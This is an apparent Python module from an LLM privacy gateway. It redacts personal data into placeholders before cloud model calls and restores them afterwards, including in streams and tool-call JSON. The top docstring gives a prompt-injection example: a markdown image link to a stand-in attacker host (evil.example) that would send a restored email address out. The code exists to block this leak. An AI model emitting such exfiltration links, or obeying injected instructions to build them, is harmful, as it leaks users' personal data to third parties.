"""The redact mode's two halves: personal data out before the cloud call, back in after.

Each distinct value gets one placeholder (``[EMAIL_1]``, ``[PHONE_2]``, ...),
the same everywhere it appears, so the cloud model can still refer to it. The
placeholders are restored in the answer, also while it streams: a piece that
ends inside a possible placeholder is held back until the next piece decides it.

A placeholder is restored only where the answer uses it as text, never inside
something a client may fetch: a URL, a markdown link or image target, a reference
definition, an autolink, an HTML tag (``restore.py`` parses the answer as
CommonMark to tell). A prompt-injected document can ask the cloud model for
``![](https://evil.example/?q=[EMAIL_1])``; restoring there would make the
gateway itself write the secret into a link that a markdown client loads. Such
a placeholder stays as it is. In JSON (structured output, tool-call arguments)
only string values are restored, never ids or URLs.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import Any

from hybridgate.router.privacy import PersonalDataDetector
from hybridgate.serving import restore
from hybridgate.serving.backends.base import ChatParams
from hybridgate.serving.cloud_request import rewrite_strings
from hybridgate.serving.restore import PLACEHOLDER

_LONGEST = len("[EMAIL_9999]")
NOTE = (
    "Some values in this conversation were replaced by placeholders such as [EMAIL_1] or [NAME_1]. "
    "Keep every placeholder exactly as written wherever you need the value."
)


@dataclass
class Redaction:
    originals: dict[str, str] = field(default_factory=dict)  # placeholder -> original value

    def restore(self, text: str, before: str = "") -> str:
        """``text`` with its placeholders restored where they are text; ``before`` is what preceded it."""
        if not PLACEHOLDER.search(text):
            return text
        whole = before + text
        return restore.apply(whole, restore.places(whole, self.originals), len(before))

    def restore_arguments(self, arguments: str) -> str:
        """A tool call's arguments (a JSON document) with placeholders restored in string values that are not
        ids or URLs; arguments that are not JSON keep their placeholders."""
        if not PLACEHOLDER.search(arguments):
            return arguments
        found = restore.json_places(arguments, self.originals)
        return arguments if found is None else restore.apply(arguments, found)

    @property
    def count(self) -> int:
        return len(self.originals)


def restore_json_value(value: Any, redaction: Redaction) -> Any:
    """A decoded JSON value (tool-call arguments, a structured answer) with placeholders restored in its string
    values that are text and not under an id or URL key; keys, ids and URL-like strings keep them."""
    if not redaction.count:
        return value
    encoded = json.dumps(value, ensure_ascii=False)
    return json.loads(redaction.restore_arguments(encoded))


def in_link(before: str) -> bool:
    """Whether a placeholder right after ``before`` would stay one (it sits in a URL, a link or image target,
    a definition, an autolink or HTML) rather than be restored as text."""
    probe = "[EMAIL_1]"
    return not restore.markdown_places(before + probe, {probe: "x"})


def with_arguments(calls: list[dict[str, Any]], change: Callable[[str], str]) -> list[dict[str, Any]]:
    """Tool calls with ``change`` applied to each one's arguments (redacting them, or restoring them)."""
    return [{**c, "function": {**c["function"], "arguments": change(c["function"]["arguments"])}} for c in calls]


class _Redactor:
    """One placeholder per distinct value, shared by every string of one request."""

    def __init__(self, detector: PersonalDataDetector) -> None:
        self.detector = detector
        self.redaction = Redaction()
        self._by_value: dict[tuple[str, str], str] = {}
        self._counters: dict[str, int] = {}

    def __call__(self, text: str) -> str:
        pieces: list[str] = []
        pos = 0
        for f in self.detector.find(text):
            key = (f.kind, f.value)
            if key not in self._by_value:
                self._counters[f.kind] = self._counters.get(f.kind, 0) + 1
                self._by_value[key] = f"[{f.kind.upper()}_{self._counters[f.kind]}]"
                self.redaction.originals[self._by_value[key]] = f.value
            pieces.append(text[pos : f.start])
            pieces.append(self._by_value[key])
            pos = f.end
        pieces.append(text[pos:])
        return "".join(pieces)


def _with_note(messages: list[dict[str, Any]], red: Redaction) -> list[dict[str, Any]]:
    return [{"role": "system", "content": NOTE}, *messages] if red.count else messages


def redact_messages(messages: list[dict[str, Any]], detector: PersonalDataDetector) -> tuple[list[dict[str, Any]], Redaction]:
    """Messages with personal data replaced (content, tool-call arguments and ids, names), and a system note
    telling the cloud model to keep the placeholders."""
    redact = _Redactor(detector)
    out: list[dict[str, Any]] = []
    for m in messages:
        msg = {**m, "content": redact(m["content"] or "")}
        if m.get("tool_calls"):  # the arguments of earlier calls are content too, and an id is text the cloud reads
            msg["tool_calls"] = [{**c, "id": redact(c.get("id") or "")} for c in with_arguments(m["tool_calls"], redact)]
        for key in ("tool_call_id", "name"):
            if isinstance(m.get(key), str):
                msg[key] = redact(m[key])
        out.append(msg)
    return _with_note(out, redact.redaction), redact.redaction


def redact_request(params: ChatParams, detector: PersonalDataDetector) -> tuple[ChatParams, Redaction]:
    """The cloud's view of ``params`` with personal data replaced in every string it carries (the same strings
    the privacy decision read: see :mod:`cloud_request`), one placeholder per value across all of them."""
    redact = _Redactor(detector)
    out = rewrite_strings(params, redact)
    return replace(out, messages=_with_note(out.messages, redact.redaction)), redact.redaction


class StreamRestorer:
    """Restores placeholders in a stream of text pieces, with the same result as restoring the whole answer.

    Text is sent on at once while its Markdown block holds no placeholder; from the first placeholder on, the
    rest of the block is held until the block is complete (a link destination or a reference definition can
    continue on its next line), then restored as a whole. An answer that starts like JSON is held to the end.
    """

    def __init__(self, redaction: Redaction, arguments: bool = False) -> None:
        """``arguments``: the stream is a tool call's arguments, restored as ``Redaction.restore_arguments``
        does once complete (and not at all if they are not JSON)."""
        self.redaction = redaction
        self._arguments = arguments
        self._json: bool | None = True if arguments else None  # else undecided until two visible characters
        self._block = ""  # the current top-level block
        self._sent = 0  # how much of it went out unchanged
        self._cutter = restore.BlockCutter()

    def feed(self, piece: str) -> str:
        self._block += piece
        if self._json is None:
            head = self._block.lstrip()
            if len(head) < 2 and head[:1] in ("", "["):
                return ""
            self._json = restore.json_start(self._block)
        if self._json:
            return ""
        out: list[str] = []
        while (cut := self._cutter.next_cut(self._block)) is not None:
            out.append(self._finish(self._block[:cut]))
            self._block, self._sent = self._block[cut:], 0
        first = PLACEHOLDER.search(self._block, self._sent)
        if first is not None:
            upto = first.start()
        else:
            upto = len(self._block)
            half = self._block.rfind("[", self._sent)
            if half != -1 and "]" not in self._block[half:] and len(self._block) - half < _LONGEST:
                upto = half  # what could be half a placeholder waits for the next piece
        out.append(self._block[self._sent : upto])
        self._sent = max(self._sent, upto)
        return "".join(out)

    def flush(self) -> str:
        if self._json:
            text, self._block = self._block, ""
            return self.redaction.restore_arguments(text) if self._arguments else self.redaction.restore(text)
        out = self._finish(self._block)
        self._block, self._sent, self._cutter = "", 0, restore.BlockCutter()
        return out

    def _finish(self, block: str) -> str:
        """The unsent rest of a complete block, restored."""
        if not PLACEHOLDER.search(block, self._sent):
            return block[self._sent :]
        return restore.apply(block, restore.markdown_places(block, self.redaction.originals), self._sent)
